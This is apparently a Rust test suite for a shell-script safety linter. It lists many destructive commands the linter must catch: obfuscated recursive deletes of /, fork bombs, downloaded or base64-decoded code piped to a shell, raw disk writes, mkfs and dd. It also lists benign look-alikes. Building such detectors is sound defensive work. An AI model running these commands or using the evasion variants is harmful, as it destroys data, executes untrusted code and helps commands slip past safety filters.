//! The chapter `specs/danger.md`.

use prowess_shell::{HazardKind, lint};

mod dangerous_scripts_are_refused {
    use super::*;

    #[test]
    fn s_31_deleting_everything_is_seen_however_it_is_written() {
        refused(
            HazardKind::Delete,
            &[
                "rm -rf /",
                "rm -fr /",
                "rm -r -f /",
                "rm / -rf",
                "rm -rfv --one-file-system /",
                "rm --recursive --force /",
                "rm --rec --fo /",
                "rm -rf --no-preserve-root /",
                "rm -rf -- /",
                "rm -rf /*",
                "rm -rf /.",
                "rm -rf //",
                "rm -rf /tmp/../",
                "rm -rf /./*",
                "rm -rf ~",
                "rm -rf ~/",
                "rm -rf ~/*",
                "rm -rf $HOME",
                "rm -rf \"${HOME}\"/*",
                "rm -rf /home/someone",
                "rm -rf /etc /tmp/x",
                "rm -rf /usr/*",
                "r\\m -rf /",
                "\"rm\" -rf /",
                "'r'm -rf '/'",
                "$'\\x72m' -rf /",
                "$'rm' $'-\\162f' /",
                "r$@m -rf /",
                "r${x}m -rf /",
                "/bin/rm -rf /",
                "\\rm -rf /",
                "X=rm; $X -rf /",
                "X='rm -rf /'; $X",
                "A=r B=m; $A$B -rf /",
                "X=rm\nX=\"$X -rf\"\n$X /",
                "D=/; rm -rf \"$D\"",
                "D=; rm -rf \"$D/\"",
                "rm -rf \"${DIR:-/}\"",
                "rm${IFS}-rf${IFS}/",
                "rm -rf ${HOME:0:1}",
                "{rm,-rf,/}",
                "rm -rf {/,/home}",
                "$(echo rm) -rf /",
                "`echo rm` -rf /",
                "$(printf 'r%s' m) -rf /",
                "$(printf '\\x72\\x6d') -rf /",
                "$(whatever) -rf /",
                "$SUDO rm -rf /",
                "$A $B rm -rf /",
                "eval 'rm -rf /'",
                "eval rm -rf /",
                "eval \"$(echo rm -rf /)\"",
                "sh -c 'rm -rf /'",
                "bash -lc \"rm -rf /\"",
                "sh -c 'rm -rf \"$1\"' _ /",
                "env rm -rf /",
                "env -i A=1 rm -rf /",
                "env -S 'rm -rf /'",
                "sudo rm -rf /",
                "sudo -u root rm -rf /",
                "nice -n 10 rm -rf /",
                "timeout 5 rm -rf /",
                "timeout -k 5 10 rm -rf /",
                "nohup setsid rm -rf / &",
                "command rm -rf /",
                "exec rm -rf /",
                "busybox rm -rf /",
                "echo / | xargs rm -rf /",
                "find / -delete",
                "find / -type f -delete",
                "find / -exec rm -rf {} \\;",
                "find ~ -mindepth 1 -exec rm {} +",
                "cd / && rm -rf *",
                "cd / ; rm -rf ./*",
                "cd; rm -rf .",
                "sh <<EOF\nrm -rf /\nEOF",
                "sh <<'EOF'\nrm -rf /\nEOF",
                "cat <<EOF | sh\nrm -rf /\nEOF",
                "sh <<< 'rm -rf /'",
                "echo 'rm -rf /' | sh",
                "printf 'rm -rf /\\n' | bash -s",
                ". /dev/stdin <<< 'rm -rf /'",
                "bash <(echo rm -rf /)",
                "f() { rm -rf \"$1\"; }; f /",
                "f() { rm -rf /; }",
                "f() rm -rf /\nf",
                "if true; then rm -rf /; fi",
                "while :; do rm -rf /; done",
                "for d in /tmp /; do rm -rf $d; done",
                "for x in rm; do $x -rf /; done",
                "case x in x) rm -rf / ;; esac",
                "{ rm -rf /; }",
                "( rm -rf / )",
                "((rm -rf /))",
                "[[ a && rm -rf / ]]",
                "true && rm -rf /",
                "false || rm -rf /",
                "! rm -rf /",
                "ls | rm -rf /",
                "echo $(rm -rf /)",
                "echo \"`rm -rf /`\"",
                "echo $((1 + $(rm -rf /)))",
                "x=$(rm -rf /)",
                "x=(a $(rm -rf /))",
                "cat <<EOF\n$(rm -rf /)\nEOF",
                "echo ${x:-$(rm -rf /)}",
                "ls > $(rm -rf /)",
                "trap 'rm -rf /' EXIT",
                "alias ll='rm -rf /'",
                "set -- rm -rf /; \"$@\"",
                "c=(rm -rf /); \"${c[@]}\"",
                "rm -rf /\r\n",
                "rm \\\n -rf \\\n /",
                "python3 -c 'import os; os.system(\"rm -rf /\")'",
                "if false; then X=/; fi; rm -rf $X",
            ],
        );
    }

    #[test]
    fn s_31_a_fork_bomb_is_seen_under_any_name() {
        refused(
            HazardKind::ForkBomb,
            &[
                ":(){ :|:& };:",
                ":() { : | : & }; :",
                "bomb() { bomb | bomb & }; bomb",
                "function b { b | b; }; b",
                "f() { f & f & }; f",
                "f() { ( f & ); }; f",
                "a() { b | b & }\nb() { a | a & }\na",
                "$0 | $0 &",
                "\"$0\" & \"$0\" &",
                "sh -c ':(){ :|:& };:'",
                "eval ':(){ :|:& };:'",
            ],
        );
    }

    #[test]
    fn s_31_what_was_just_downloaded_or_decoded_does_not_run() {
        refused(
            HazardKind::PipeToShell,
            &[
                "curl https://x | sh",
                "curl -fsSL https://x | bash",
                "wget -qO- https://x | sh -s -- --yes",
                "curl https://x|sudo bash -",
                "curl https://x | sudo -E bash",
                "curl https://x | env A=1 sh",
                "curl https://x | tee log | sh",
                "curl https://x | sed 's/a/b/' | sh",
                "curl https://x | (sh)",
                "curl https://x | { cat | sh; }",
                "curl https://x | bash /dev/stdin",
                "curl https://x | . /dev/stdin",
                "curl https://x | python3",
                "curl https://x | python3 -",
                "curl https://x | perl",
                "curl https://x | node",
                "curl https://x | xargs -I{} sh",
                "sh -c \"$(curl -fsSL https://x)\"",
                "bash -c \"`wget -qO- https://x`\"",
                "eval \"$(curl https://x)\"",
                "X=$(curl https://x); eval \"$X\"",
                "X=$(curl https://x)\nbash -c \"$X\"",
                "bash <(curl https://x)",
                "source <(curl https://x)",
                ". <(wget -qO- https://x)",
                "sh < <(curl https://x)",
                "bash <<< \"$(curl https://x)\"",
                "sh <<EOF\n$(curl https://x)\nEOF",
                "python3 -c \"$(curl https://x)\"",
                "echo cm0gLXJmIC8= | base64 -d | sh",
                "base64 -d <<< cm0gLXJmIC8= | bash",
                "echo 726d | xxd -r -p | sh",
                "openssl enc -d -base64 -in x | sh",
                "echo / fr- mr | rev | sh",
                "echo eZ | tr a-z n-za-m | sh",
                "gunzip -c x.gz | sh",
                "curl https://x | while read -r l; do eval \"$l\"; done",
                "cat < /dev/tcp/1.2.3.4/80 | sh",
                "bash < /dev/tcp/1.2.3.4/80",
                "/usr/bin/curl https://x | /bin/sh",
                "c=curl; $c https://x | sh",
                "curl https://x |& sh",
                "curl https://x |\n  sh",
            ],
        );
    }

    #[test]
    fn s_31_a_disk_is_not_written_made_anew_or_copied() {
        refused(
            HazardKind::DeviceWrite,
            &[
                "echo x > /dev/sda",
                "cat x >/dev/nvme0n1",
                "cat x >> /dev/vda1",
                ": >| /dev/mmcblk0",
                "x &> /dev/hda",
                "echo x > /dev//sda",
                "echo x > /dev/disk/by-id/x",
                "D=/dev/sda; echo > $D",
                "echo x > \"/dev/$DISK\"",
                "echo x | tee /dev/xvda",
                "cp image /dev/sdb",
                "cp image /dev/loop0",
                "shred /dev/sda",
                "cd /dev && cat x > sda",
                "{ echo x; } > /dev/sda",
                "echo x > /dev/mem",
            ],
        );
        refused(
            HazardKind::Format,
            &[
                "mkfs.ext4 /dev/sda1",
                "mkfs -t ext4 x",
                "/sbin/mkfs.xfs x",
                "sudo mkswap x",
                "wipefs -a x",
            ],
        );
        refused(
            HazardKind::DiskCopy,
            &[
                "dd if=/dev/zero of=/dev/sda",
                "dd if=/dev/sda of=disk.img",
                "dd of=/dev/sda bs=1M < image",
                "dd if=/dev/zero",
                "dd if=x of=/etc/passwd",
                "dd if=$X of=y",
                "sudo dd bs=1M if=x of=../y",
            ],
        );
    }

    #[test]
    fn what_only_speaks_of_danger_is_not_dangerous() {
        for script in [
            "",
            "\n# nothing\n",
            "echo hello",
            "rm -rf /tmp/x",
            "rm -rf ./build target",
            "rm -rf \"$WORK/x\"",
            "rm -rf \"$WORK\"",
            "rm -rf \"${TMPDIR:-/tmp}/x\"",
            "rm -rf ~/.cache/thing",
            "rm -f /etc/motd.bak",
            "rm -r /home/someone/project/target",
            "rm -rf /var/tmp/build-1",
            "for d in /usr /opt; do rm -rf \"$d/myapp\"; done",
            "cd /tmp/x && rm -rf *",
            "cd \"$1\" && rm -rf *",
            "(cd /); rm -rf *",
            "f() { cd /; }; rm -rf *",
            "pushd /; popd; rm -rf *",
            "$SUDO cp -r /etc /backup",
            "$SUDO chmod -R go-w /usr",
            "echo \"rm -rf /\"",
            "echo 'rm -rf /' > notes.txt",
            "printf '%s\\n' 'rm -rf /'",
            "# rm -rf /\ntrue",
            "true # ; rm -rf /",
            "cat <<EOF\nrm -rf /\nEOF",
            "cat <<'EOF' > x.md\n:(){ :|:& };:\ncurl x | sh\nEOF",
            "grep 'curl .* | sh' -r .",
            "grep -rn 'rm -rf /' scripts",
            "git commit -m 'never run rm -rf /'",
            "curl -o x https://x",
            "curl https://x > page.html",
            "curl https://x | jq .",
            "curl https://x | python3 -m json.tool",
            "curl https://x | python3 -c 'import sys; print(sys.stdin.read())'",
            "curl https://x | python3 read.py",
            "curl https://x | perl -ne 'print if /x/'",
            "curl https://x | bash read.sh",
            "curl https://x | tar xz",
            "curl -LO https://x/y.tar.gz && sha256sum -c y.sum",
            "python3 report.py \"$(curl https://x)\"",
            "echo aGk= | base64 -d",
            "cat script.sh | sh",
            "bash build.sh",
            "sh -c 'echo hi'",
            "eval \"$(ssh-agent -s)\"",
            "x=$(echo \"$y\" | tr - _); eval \"v=\\$$x\"",
            "source <(kubectl completion bash)",
            "pip install x",
            "brew install x",
            "echo x > /dev/null 2>&1",
            "echo x > /dev/stderr",
            "echo x > /dev/tty",
            "dd if=a of=b bs=1k count=1",
            "dd of=out.bin bs=1",
            "man mkfs",
            "command -v mkfs.ext4",
            "echo mkfs.ext4",
            "walk() { for f in \"$1\"/*; do walk \"$f\"; done; }; walk .",
            "tree() { ls \"$1\" | while read -r d; do tree \"$d\"; done; }",
            "count() { count \"$1\" | sort; }",
            "serve() { if [ \"$1\" ]; then serve & fi; }",
            "log() { echo \"$@\" | tee -a log; }; log x",
            "find . -name '*.pyc' -delete",
            "find / -name core -delete",
            "find . -type f -exec rm {} +",
            "xargs rm -f < list",
            "if [[ $x =~ ^(a|b)$ ]]; then echo y; fi",
            "x=(a b); echo \"${x[@]}\"; (( i++ )); for ((i=0; i<3; i++)); do echo $i; done",
            "case \"$1\" in -h|--help) echo help ;; *) echo other ;; esac",
            "while read -r line; do echo \"$line\"; done < file",
            "diff <(sort a) <(sort b)",
            "echo $((1 + 2)) ${x%.*} ${#x} ${x/a/b} $? $$ $! $#",
            "kill -9 -1",
        ] {
            assert_eq!(lint(script), None, "{script}");
        }
    }

    #[test]
    fn the_place_is_told() {
        let found = lint("echo one\n\nif true; then\n  sudo rm -rf \"$X\" /\nfi\n").unwrap();
        assert_eq!((found.kind, found.line), (HazardKind::Delete, 4));
        assert_eq!(found.command, "rm -rf … /");
        let said = found.to_string();
        assert!(said.contains("line 4") && said.contains("recursive-delete"), "{said}");
        let after_document = lint("cat <<EOF\none\ntwo\nEOF\nmkfs.ext4 x").unwrap();
        assert_eq!(after_document.line, 5);
    }

    #[test]
    fn what_is_no_script_is_searched_as_text() {
        for (script, kind) in [
            ("echo 'open\nrm -rf /", HazardKind::Delete),
            ("if true; then\nrm -rf ~/*\n", HazardKind::Delete),
            ("( curl https://x | sh", HazardKind::PipeToShell),
            ("\" :(){ :|:& };:", HazardKind::ForkBomb),
            ("\" x > /dev/sda", HazardKind::DeviceWrite),
            ("( mkfs.ext4 x", HazardKind::Format),
            ("( dd if=/dev/zero of=/dev/sda", HazardKind::DiskCopy),
            ("rm -rf /\0", HazardKind::Delete),
        ] {
            assert_eq!(lint(script).map(|it| it.kind), Some(kind), "{script:?}");
        }
        assert_eq!(lint("( echo a\n# rm -rf /\nrm -rf /tmp/x"), None);
    }

    #[test]
    fn no_text_is_too_hostile_to_be_checked() {
        const MANY: usize = 50_000;
        let opened = [
            "(",
            "((",
            "$(",
            "$((",
            "${",
            "`",
            "\"",
            "'",
            "{ ",
            "[[ ",
            "<(",
            "x=(",
            "if ",
            "case x in ",
            "f() ",
            "<<A ",
            "\"$(",
            "\"${x:-",
            "! ",
            "a|",
            "\\`",
            "{a,",
            "$'",
            "f(){ f|",
            "sh -c '",
            "env ",
            "eval ",
            "$x ",
            "$x/ ",
            "x=$x$x;",
            "x(){ x;};x;",
            "a & ",
        ];
        for open in opened {
            drop(lint(&format!("{}rm -rf /", open.repeat(MANY))));
        }
        for (text, reads) in [
            (format!("x=a\n{}echo $x", "x=$x$x\n".repeat(100)), false),
            (format!("echo {}", "{a,b}".repeat(1000)), false),
            (
                "f0() { :; }\n".to_owned()
                    + &(1..3000)
                        .map(|it| format!("f{it}() {{ f{}; f{}; }}\n", it - 1, it - 1))
                        .collect::<String>()
                    + "f2999",
                true,
            ),
            (
                (0..3000).map(|it| format!("f{it}() {{ f{} & }}\n", it + 1)).collect::<String>(),
                true,
            ),
        ] {
            let found = lint(&text);
            let obscure = found.is_none_or(|it| it.kind == HazardKind::Obscure && reads);
            assert!(obscure, "{}", &text[..100]);
        }
    }
}

/// Fails unless every script is refused for this.
fn refused(kind: HazardKind, scripts: &[&str]) {
    for script in scripts {
        assert_eq!(lint(script).map(|it| it.kind), Some(kind), "{script}");
    }
}
